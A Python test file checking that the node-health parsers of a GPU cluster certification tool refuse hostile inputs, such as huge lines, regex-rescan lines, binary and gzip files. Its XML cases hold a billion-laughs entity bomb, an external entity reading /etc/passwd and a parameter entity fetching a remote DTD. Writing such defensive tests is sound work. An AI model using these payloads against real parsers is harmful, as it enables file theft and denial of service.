"""Hostile node-health inputs: huge lines, binary, compressed, deep XML, entity bombs and external entities,
lines shaped to make a pattern rescan; each a one-line located refusal (or a reading) within the time bound."""

from __future__ import annotations

import gzip
from collections.abc import Callable
from pathlib import Path

import pytest

from clustercert.errors import EvidenceError
from clustercert.parsers import FORMATS, detect_format
from clustercert.parsers.health import HEALTH_FORMATS

Count = Callable[[int], None]
MB = 1024 * 1024

# one line each format starts its output with, to lead a hostile line
LEADS = {
    "prescreen": "=" * 80 + "\nSystem Info Collection Start\n" + "=" * 80 + "\n",
    "nvidia-smi-q": "==============NVSMI LOG==============\nAttached GPUs : 1\nGPU 00000000:19:00.0\n    ",
    "nvidia-smi-xml": "<?xml version=\"1.0\" ?>\n<nvidia_smi_log>\n<gpu id=\"00000000:19:00.0\">",
    "dcgmi-diag": "| Diagnostic                | Result                                         |\n",
    "dcgmi-nvlink": "|  NvLink Link Status  |\nGPUs:\n    gpuId 0:\n        ",
    "nvlink-status": "GPU 0: NVIDIA H100 80GB HBM3 (UUID: GPU-0)\n\t Link 0: ",
    "ibstat": "CA 'mlx5_0'\n\tCA type: MT4129\n\tNumber of ports: 1\n\tPort 1:\n\t\tState: ",
    "ibstatus": "Infiniband device 'mlx5_0' port 1 status:\n\tstate: ",
    "nvidia-smi-topo": "\tGPU0\tGPU1\tCPU Affinity\nGPU0\t X \t",
    "fabric-manager": "[Feb 25 2025 13:59:45] [INFO] [tid 1803] ",
    "kernel-log": "[Sun Feb 23 16:24:18 2025] NVRM: Xid (PCI:0000:9b:00): ",
}


def _refused(fmt: str, path: Path) -> EvidenceError | None:
    """The parser's refusal of `path`, None when it read it; anything but an EvidenceError fails the case."""
    try:
        FORMATS[fmt](path, path.name)
    except EvidenceError as exc:
        assert "\n" not in str(exc) and len(str(exc)) <= 800
        return exc
    return None


def test_every_health_format_has_a_lead() -> None:
    assert set(LEADS) == set(HEALTH_FORMATS)


@pytest.mark.parametrize("fmt", sorted(LEADS))
@pytest.mark.parametrize("filler", ["a", " ", "|", "-", "\t", "GPU 0: ", "<a>"])
def test_a_huge_line_is_refused_or_read_in_linear_time(tmp_path: Path, fmt: str, filler: str,
                                                       hostile: Count) -> None:
    path = tmp_path / "huge"
    path.write_text(LEADS[fmt] + filler * (MB // len(filler)) + "\n")
    hostile(1)
    _refused(fmt, path)  # either way within the bound; a refusal is located and one line long
    detect_format(path)


@pytest.mark.parametrize("text", [
    "|-- x" + " " * MB + "-+---|\n",                                 # a category rule rescanned at each space
    "GPU 0: " + " " * MB + "x\n\t Link 0: 25 GB/s\n",                # nvlink's GPU line
    "Aug 17 06:18:01 h n: " + "ib0" * 300_000 + ": lost carrier\n",  # the carrier pattern
])
def test_lines_shaped_against_the_patterns(tmp_path: Path, text: str, hostile: Count) -> None:
    path = tmp_path / "shaped"
    path.write_text(text)
    hostile(1)
    for fmt in HEALTH_FORMATS:
        _refused(fmt, path)


@pytest.mark.parametrize("fmt", sorted(LEADS))
def test_binary_and_compressed_files_are_refused_as_such(tmp_path: Path, fmt: str, hostile: Count) -> None:
    binary = tmp_path / "binary"
    binary.write_bytes(LEADS[fmt].encode() + b"\x00\x01\x02" * 1000)
    packed = tmp_path / "out.txt.gz"
    packed.write_bytes(gzip.compress(LEADS[fmt].encode() * 100))
    empty = tmp_path / "empty"
    empty.write_text("\n\n  \n")
    hostile(3)
    assert "got binary data (NUL bytes)" in str(_refused(fmt, binary))
    assert "gzip-compressed data: decompress it first (`gunzip -k out.txt.gz`)" in str(_refused(fmt, packed))
    assert "got an empty file" in str(_refused(fmt, empty))


XML_HEAD = '<?xml version="1.0" ?>\n'


@pytest.mark.parametrize("body,said", [
    # billion laughs: ten levels of ten references
    ('<!DOCTYPE nvidia_smi_log [\n<!ENTITY a0 "lol">\n' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
     + ']>\n<nvidia_smi_log><driver_version>&a9;</driver_version></nvidia_smi_log>\n',
     "line 3: expected nvidia-smi's XML, got an entity declaration ('a0'): entities are refused"),
    # an external entity that would read a file of the machine
    ('<!DOCTYPE nvidia_smi_log [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n'
     '<nvidia_smi_log><driver_version>&x;</driver_version></nvidia_smi_log>\n',
     "line 3: expected nvidia-smi's XML, got an entity declaration ('x')"),
    # a parameter entity reaching out
    ('<!DOCTYPE nvidia_smi_log [\n<!ENTITY % p SYSTEM "http://203.0.113.1/x.dtd">\n%p;\n]>\n<nvidia_smi_log/>\n',
     "got an entity declaration ('p')"),
    # a reference to an entity never declared
    ('<nvidia_smi_log><driver_version>&x;</driver_version></nvidia_smi_log>\n',
     "line 2: expected well-formed XML, got undefined entity"),
    # nesting far past nvidia-smi's five levels
    ("<nvidia_smi_log>" + "<a>" * 100_000 + "</a>" * 100_000 + "</nvidia_smi_log>\n",
     "line 2: expected nvidia-smi's XML (at most 32 levels), got deeper nesting"),
    ("<html><body/></html>\n", "line 2: expected an <nvidia_smi_log> document, got <html>"),
])
def test_hostile_xml_is_refused_with_its_line(tmp_path: Path, body: str, said: str, hostile: Count) -> None:
    path = tmp_path / "q.xml"
    path.write_text(XML_HEAD + body)
    hostile(1)
    refused = _refused("nvidia-smi-xml", path)
    assert refused is not None and said in str(refused), str(refused)


def test_a_million_gpu_headers_are_counted_not_walked_twice(tmp_path: Path, hostile: Count) -> None:
    path = tmp_path / "q.txt"
    path.write_text("==============NVSMI LOG==============\nAttached GPUs : 2\n"
                    + "GPU 00000000:19:00.0\n    Processes : None\n" * 500_000)
    hostile(1)
    refused = _refused("nvidia-smi-q", path)
    assert refused is not None and "expected 2 GPU sections (`Attached GPUs` at line 2), got 500000" in str(refused)
